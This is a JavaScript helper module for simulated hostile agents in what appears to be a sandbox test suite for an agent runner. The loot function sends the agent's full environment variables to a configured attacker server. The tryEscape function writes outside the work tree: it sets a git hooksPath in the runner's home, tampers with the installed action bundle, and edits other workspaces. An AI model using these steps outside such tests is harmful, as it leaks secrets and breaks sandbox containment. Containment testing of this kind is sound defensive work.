// Shared by the hostile agents of the attack suite. An agent is started as
//   node <agent>.mjs <config: base64 JSON> --goal=<goal file>
// with its work tree as cwd. Everything it finds ("loot") goes to .git/loot/<name> in its work
// tree (kept after the run) and to the attacker server. Every line it prints carries its nonce,
// every process it starts carries the nonce on its command line, and each pid goes to
// .git/loot/pids, so the tests can tell the agent's traces from the runner's.
import { execFileSync } from "node:child_process";
import { appendFileSync, mkdirSync, readdirSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

export const config = JSON.parse(Buffer.from(process.argv[2] ?? "", "base64").toString("utf8"));
export const nonce = config.nonce;
export const LOOT = join(process.cwd(), ".git", "loot");
mkdirSync(LOOT, { recursive: true });

const text = (data) => (typeof data === "string" ? data : JSON.stringify(data, null, 1));

/** Keeps what was found: in .git/loot/<name> and at the attacker server. */
export async function loot(name, data) {
  const body = text(data);
  try {
    writeFileSync(join(LOOT, name), body);
  } catch (error) {
    console.log(`${nonce} cannot write loot ${name}: ${error}`);
  }
  try {
    await fetch(`${config.attacker}/loot/${nonce}/${encodeURIComponent(name)}`, {
      method: "POST",
      body,
      signal: AbortSignal.timeout(5000),
    });
  } catch (error) {
    appendFileSync(join(LOOT, "upload-errors"), `${name}: ${error}\n`);
  }
}

/** Prints one line, marked with the nonce. */
export function say(line) {
  console.log(`${nonce} ${line}`);
}

export function recordPid(pid, what) {
  appendFileSync(join(LOOT, "pids"), `${pid} ${what}\n`);
}

/** Runs a command, never throwing: its output, or the error's text. */
export function attempt(what) {
  try {
    const value = what();
    return value === undefined ? "ok" : value;
  } catch (error) {
    return `failed: ${error?.code ?? ""} ${String(error?.message ?? error).slice(0, 300)}`;
  }
}

/** A folder's entries, or none when it cannot be read. */
export function list(dir) {
  try {
    return readdirSync(dir);
  } catch {
    return [];
  }
}

export function git(...args) {
  return execFileSync(
    "git",
    ["-c", "user.name=Agent", "-c", "user.email=agent@example.com", ...args],
    { encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] },
  );
}

/** The agent's honest work: one new file, committed, so that the run goes on to the push. */
export function honestWork(name, content = `work of the ${name} agent\n`) {
  const file = `attack-${name}.txt`;
  writeFileSync(file, content);
  git("add", "--", file);
  git("commit", "--quiet", "-m", `${name}: honest work`);
  return file;
}

/** Records who and where the agent is; called first. */
export async function begin(name) {
  recordPid(process.pid, `agent ${name}`);
  const home = process.env.HOME;
  const tmp = process.env.TMPDIR || tmpdir();
  // Markers the tests look for after the run: the private HOME and TMPDIR must be gone.
  const markers = {
    home: attempt(() => writeFileSync(join(home || "/nonexistent", `.agent-home-${nonce}`), nonce)),
    tmp: attempt(() => writeFileSync(join(tmp, `agent-tmp-${nonce}`), nonce)),
  };
  await loot("ran.json", {
    agent: name,
    pid: process.pid,
    ppid: process.ppid,
    uid: process.getuid?.(),
    cwd: process.cwd(),
    argv: process.argv,
    goalFile: process.env.GOAL_FILE,
    env: process.env,
    markers,
  });
  say(`${name} agent at work in ${process.cwd()}`);
}

/**
 * Tries to write outside its work tree (sandbox tests only): the runner's HOME, the installed
 * action, another goal's workspace, the runner's temp folder.
 */
export async function tryEscape() {
  if (!config.escape) return;
  const t = config.targets;
  const mark = `pwned by ${nonce}\n`;
  const results = {
    homeGitconfig: attempt(() =>
      appendFileSync(join(t.runnerHome, ".gitconfig"), `[core]\n\thooksPath = /tmp/${nonce}\n`),
    ),
    homeFile: attempt(() => writeFileSync(join(t.runnerHome, `pwned-${nonce}`), mark)),
    installFile: attempt(() => writeFileSync(join(t.installDir, `pwned-${nonce}`), mark)),
    bundle: attempt(() => appendFileSync(t.bundle, `\n// ${mark}`)),
    otherWorkspace: attempt(() =>
      appendFileSync(join(t.otherWorkspace, "work", "canary.txt"), mark),
    ),
    otherGoalFile: attempt(() => writeFileSync(join(t.otherWorkspace, "goal.md"), mark)),
    otherRelative: attempt(() =>
      appendFileSync(join(process.cwd(), "..", "..", "999", "work", "canary.txt"), mark),
    ),
    runnerTemp: attempt(() => writeFileSync(join(t.runnerTemp, `pwned-${nonce}`), mark)),
    canary: attempt(() => appendFileSync(join(t.canary, "goal-target.txt"), mark)),
  };
  await loot("escape.json", results);
}
